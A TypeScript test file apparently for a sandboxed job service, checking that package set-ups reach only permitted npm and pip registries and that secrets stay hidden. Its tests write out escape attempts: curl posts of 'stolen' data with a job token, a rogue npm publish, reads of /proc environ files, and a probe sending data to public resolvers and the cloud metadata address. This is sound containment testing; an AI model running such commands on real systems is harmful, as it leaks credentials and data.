import { execFile } from "node:child_process";
import { lookup } from "node:dns/promises";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer as createHttp } from "node:http";
import { type AddressInfo, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fix, TestService } from "./test/service.ts";

const run = promisify(execFile);
const manifest = JSON.stringify({ name: "sample", version: "1.0.0", dependencies: { "is-number": "7.0.0" } });
/** Debian's own, since nothing of a person's home is seen in a workspace. */
const python = "/usr/bin/python3";

/** The registry that npm is configured with here and a lock file from it, or what is lacking. */
async function npmRegistry(): Promise<{ url: string; lock: string } | { lacks: string }> {
  const folder = await mkdtemp(join(tmpdir(), "x1-lock-"));
  try {
    const { stdout } = await run("npm", ["config", "get", "registry"], { cwd: folder });
    await writeFile(join(folder, "package.json"), manifest);
    const options = ["--package-lock-only", "--ignore-scripts", "--no-audit", "--no-fund"];
    // With the addresses, since finding them again is what is tested.
    options.push("--omit-lockfile-registry-resolved=false");
    await run("npm", ["install", ...options], { cwd: folder, timeout: 60_000 });
    return { url: stdout.trim(), lock: await readFile(join(folder, "package-lock.json"), "utf8") };
  } catch (error) {
    return { lacks: (error as { code?: unknown }).code === "ENOENT" ? "npm" : "a package registry that answers npm" };
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

/** The index that pip is configured with here and the hosts it fetches from, or what is lacking. */
async function pipIndex(): Promise<{ url: string; hosts: string[] } | { lacks: string }> {
  const folder = await mkdtemp(join(tmpdir(), "x1-pip-"));
  try {
    const { stdout } = await run(python, [
      "-c",
      "import json; from pip._internal.models.index import PyPI; print(json.dumps([PyPI.simple_url, PyPI.file_storage_domain]))",
    ]);
    const [simple, files] = JSON.parse(stdout) as [string, string];
    const set = await run(python, ["-m", "pip", "config", "get", "global.index-url"]).catch(() => null);
    const url = set?.stdout.trim() || simple;
    const options = ["--no-deps", "--only-binary", ":all:", "-q", "-d", folder, "--index-url", url];
    await run(python, ["-m", "pip", "download", ...options, "six==1.16.0"], { timeout: 60_000 });
    return { url, hosts: url === simple ? [new URL(url).hostname, files] : [new URL(url).hostname] };
  } catch (error) {
    const absent = /ENOENT|No module named/.test(String(error));
    return { lacks: absent ? `pip of ${python}` : "a package index that answers pip" };
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

const [npm, pip] = await Promise.all([npmRegistry(), pipIndex()]);
let x1: TestService;
beforeAll(async () => {
  x1 = await TestService.open();
});
afterAll(() => x1?.close());

/** The exception that an operator makes for a mirror at a private address, as on some machines: addresses alone, no tunnel. */
async function allow(...hosts: string[]): Promise<void> {
  const { organizationId } = await x1.client.me();
  for (const host of hosts) {
    const { address, family } = await lookup(host);
    await x1.client.createGrant({
      body: {
        subject: { kind: "organization", id: organizationId },
        type: "registry",
        details: { pattern: "*", phases: ["setup"], address: `${address}/${family === 4 ? 32 : 128}` },
      },
    });
  }
}

/** Runs a job with this set-up to its approval, and says through which registries it fetched; a refused host is part of the error. */
async function setUp(repository: string, setup: string, verify = "grep -q 'a + b' add.mjs"): Promise<string[]> {
  const { id } = await x1.create({ goal: fix, repository, setup, verify });
  try {
    await x1.reach(id, "awaiting_approval");
  } catch (cause) {
    const refused = (await x1.events(id, "egress.blocked")).map(({ payload }) => payload);
    throw new Error(`${cause instanceof Error ? cause.message : ""} ${JSON.stringify(refused)}`, { cause });
  }
  const opened = await x1.events(id, "egress.opened");
  return [...new Set(opened.map(({ payload }) => String(payload.registry ?? `tunnel to ${payload.host}`)))];
}
const skipped = (what: object) => ("lacks" in what ? ` [skipped: needs ${(what as { lacks: string }).lacks}]` : "");
const sample = { "add.mjs": "export const add = (a, b) => a - b;\n", ".gitignore": "node_modules\npackages\n" };
const works = `node -e 'process.exit(require("is-number")(1) ? 0 : 1)'`;

describe("a set-up fetches packages from registries that its sidecar serves, without a tunnel", () => {
  it.skipIf("lacks" in npm)(`with npm ci and a lock file from outside${skipped(npm)}`, async () => {
    if ("lacks" in npm) return;
    expect(npm.lock).toContain(`"resolved": "${npm.url.replace(/\/$/, "")}/is-number/-/`);
    const repository = await x1.createRepository("npm", {
      ...sample,
      "package.json": manifest,
      "package-lock.json": npm.lock,
    });
    await allow(new URL(npm.url).hostname);
    expect(await setUp(repository, `npm ci --no-audit --no-fund && ${works}`)).toEqual(["npm"]);
  });

  it.skipIf("lacks" in npm)(`with npm install, and writes a lock file that works outside${skipped(npm)}`, async () => {
    if ("lacks" in npm) return;
    const repository = await x1.createRepository("npm-i", { ...sample, "package.json": manifest });
    await allow(new URL(npm.url).hostname);
    const install = "npm install --no-audit --no-fund --omit-lockfile-registry-resolved=false";
    const scoped =
      "npm install --no-save --no-audit --no-fund @types/estree@1.0.8 && test -d node_modules/@types/estree";
    const lock = `grep -q '"resolved": "${npm.url}is-number/-/' package-lock.json && ! grep -q 127.0.0.1 package-lock.json`;
    expect(await setUp(repository, `${install} && ${works} && ${lock} && ${scoped} && rm package-lock.json`)).toEqual([
      "npm",
    ]);
  });

  it.skipIf("lacks" in pip)(`with pip install${skipped(pip)}`, async () => {
    if ("lacks" in pip) return;
    const repository = await x1.createRepository("pip", sample);
    await allow(...pip.hosts);
    const install = `${python} -m pip install --target packages --require-hashes -r requirements.txt`;
    const requirements = `printf 'six==1.16.0 --hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254\\n' > requirements.txt`;
    expect(
      await setUp(
        repository,
        `${requirements} && ${install} && PYTHONPATH=packages ${python} -c 'import six' && rm requirements.txt`,
      ),
    ).toEqual(["pip"]);
  });

  it.skipIf("lacks" in npm)(
    `and publishes, audits and tunnels nowhere; after set-up they are closed${skipped(npm)}`,
    async () => {
      if ("lacks" in npm) return;
      const { hostname, port } = new URL(npm.url);
      await allow(hostname);
      const no = (command: string, words: string) =>
        `{ ${command}; } 2>&1 | tee out; grep -qE '${words}' out && rm out`;
      const quick = "--fetch-retries=0";
      const curl = `curl -s -m 20 -H "authorization: Bearer $X1_JOB_TOKEN"`;
      const setup = [
        "set -e",
        no(
          `mkdir -p ../tmp/p && cd ../tmp/p && echo '{"name":"x1-stolen","version":"1.0.0"}' > package.json && npm publish ${quick}; cd /workspace`,
          "E403|path_refused|ECONNRESET",
        ),
        no(`${curl} -d stolen $npm_config_registry`, "path_refused"),
        no(`${curl} "\${npm_config_registry}is-number?stolen=1"`, "path_refused"),
        no(`curl -sv -m 20 https://${hostname}:${port || 443}/is-number`, "403"),
        `${curl} -f -o /dev/null "\${npm_config_registry}is-number"`,
      ].join("\n");
      const repository = await x1.createRepository("attack", sample);
      const agent = `${curl} "\${npm_config_registry}is-number" > closed.txt`;
      const { id } = await x1.create({
        ...{ goal: `[[shell ${agent}]] ${fix}`, repository, setup },
        verify: "grep -q 'a + b' add.mjs && grep -q 'x1 grant registry:npm' closed.txt",
      });
      await x1.reach(id, "awaiting_approval");
      const blocked = (await x1.events(id, "egress.blocked")).map(({ payload }) => `${payload.phase} ${payload.code}`);
      expect(new Set(blocked)).toEqual(new Set(["setup path_refused", "setup egress_blocked", "agent not_granted"]));
    },
  );
});

describe("a registry with a login", () => {
  it("is read by a set-up with what the operator stored, which is nowhere inside", async () => {
    const secret = "npm_kept-outside-0001";
    const registry = createHttp((request, response) =>
      response.writeHead(request.headers.authorization === `Bearer ${secret}` ? 200 : 401).end("private package"),
    );
    const before = process.env.npm_config_registry;
    try {
      await new Promise<void>((resolve) => registry.listen(0, "127.0.0.1", resolve));
      const host = `127.0.0.1:${(registry.address() as AddressInfo).port}`;
      process.env.npm_config_registry = `http://${host}/`;
      // The machine's configuration is read at the start.
      await x1.stop();
      await x1.start();
      await allow("127.0.0.1");
      const repository = await x1.createRepository("login", sample);
      // The project's own login goes before the organization's, which that registry does not know.
      const name = `registry:${host}`;
      await x1.client.setSecret({ params: { name }, body: { value: "npm_kept-outside-0002" } });
      const { id: projectId } = await x1.client.createProject({ body: { repository } });
      await x1.client.setProjectSecret({ params: { projectId, name }, body: { value: secret } });
      const curl = `curl -sf -H "authorization: Bearer $X1_JOB_TOKEN"`;
      const seen = "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /x1/etc/npmrc 2>/dev/null";
      const setup = `! { ${seen}; } | grep -aq 'kept-outsid[e]' && ${curl} "\${npm_config_registry}secret-package"`;
      const { id } = await x1.create({ goal: fix, repository, setup });
      await x1.reach(id, "awaiting_approval");
      const { record } = await x1.evidenceOf(id);
      expect(record.verification.setup?.outputTail).toContain("private package");
      expect(JSON.stringify(record)).not.toContain("kept-outside");
    } finally {
      if (before === undefined) delete process.env.npm_config_registry;
      else process.env.npm_config_registry = before;
      registry.close();
    }
  });
});

/** Tries every way past the sidecar, or to the addresses it is given; ends with 1 when one of them leads anywhere. */
const probe = `
import { lookup, Resolver } from "node:dns/promises";
import { createSocket } from "node:dgram";
import { connect } from "node:net";
const within = (work) => Promise.race([work, new Promise((_, no) => setTimeout(no, 3_000, new Error("late")))]);
const tcp = (host, port) => within(new Promise((yes, no) => {
  const socket = connect({ host, port }, () => yes(socket.destroy())).on("error", no);
}));
const udp = (family, host, port) => within(new Promise((yes, no) => {
  const socket = createSocket(family).on("error", no);
  socket.send("stolen", port, host, (error) => (error ? no(error) : yes(socket.close())));
}));
const ask = (server) => {
  const resolver = new Resolver({ timeout: 1_000, tries: 1 });
  if (server) resolver.setServers([server]);
  return within(resolver.resolve4("stolen.example.com"));
};
const given = process.argv[2]?.split(":");
const ways = given
  ? { tcp: () => tcp(given[0], given[1]), udp: () => udp("udp4", given[0], Number(given[1])) }
  : {
      name: () => within(lookup("example.com")),
      "name service": () => ask(),
      "stub resolver": () => ask("127.0.0.53"),
      "foreign resolver": () => ask("8.8.8.8"),
      "datagram": () => udp("udp4", "8.8.8.8", 53),
      "datagram, IPv6": () => udp("udp6", "2001:4860:4860::8888", 53),
      "QUIC": () => udp("udp4", "1.1.1.1", 443),
      "TCP": () => tcp("1.1.1.1", 443),
      "TCP, IPv6": () => tcp("2606:4700:4700::1111", 443),
      "metadata": () => tcp("169.254.169.254", 80),
    };
const led = [];
for (const [name, way] of Object.entries(ways)) await way().then(() => led.push(name), () => {});
console.log("led somewhere:", led.join("; ") || "none");
process.exit(led.length > 0 ? 1 : 0);
`;

describe("there is no other way out", () => {
  it("of a set-up than the sidecar, nor a registry in verification, though it may use the network", async () => {
    const closed = `const answer = await fetch(process.env.npm_config_registry + "x", { headers: { authorization: "Bearer " + process.env.X1_JOB_TOKEN } });
const said = await answer.text();
process.exit(answer.status === 403 && said.includes("closed in the phase verify") ? 0 : 1);
`;
    const repository = await x1.createRepository("ways", { ...sample, "probe.mjs": probe, "closed.mjs": closed });
    await x1.client.createProject({ body: { repository, verifyNetwork: true } });
    const node = "/x1/runtime/bin/node";
    const { id } = await x1.create({
      ...{ goal: fix, repository, setup: `${node} probe.mjs` },
      verify: `grep -q 'a + b' add.mjs && ${node} closed.mjs && ${node} probe.mjs`,
    });
    await x1.reach(id, "awaiting_approval");
    expect((await x1.job(id)).reason).toBe("verification_passed");
  });

  it("and the probe finds one that is there", async () => {
    const folder = await mkdtemp(join(tmpdir(), "x1-probe-"));
    const server = createServer();
    try {
      await writeFile(join(folder, "probe.mjs"), probe);
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      const { port } = server.address() as AddressInfo;
      const found = await run(process.execPath, [join(folder, "probe.mjs"), `127.0.0.1:${port}`]).catch(
        (error: { code?: unknown; stdout?: string }) => error,
      );
      expect(found).toMatchObject({ code: 1, stdout: "led somewhere: tcp; udp\n" });
    } finally {
      server.close();
      await rm(folder, { recursive: true, force: true });
    }
  });
});
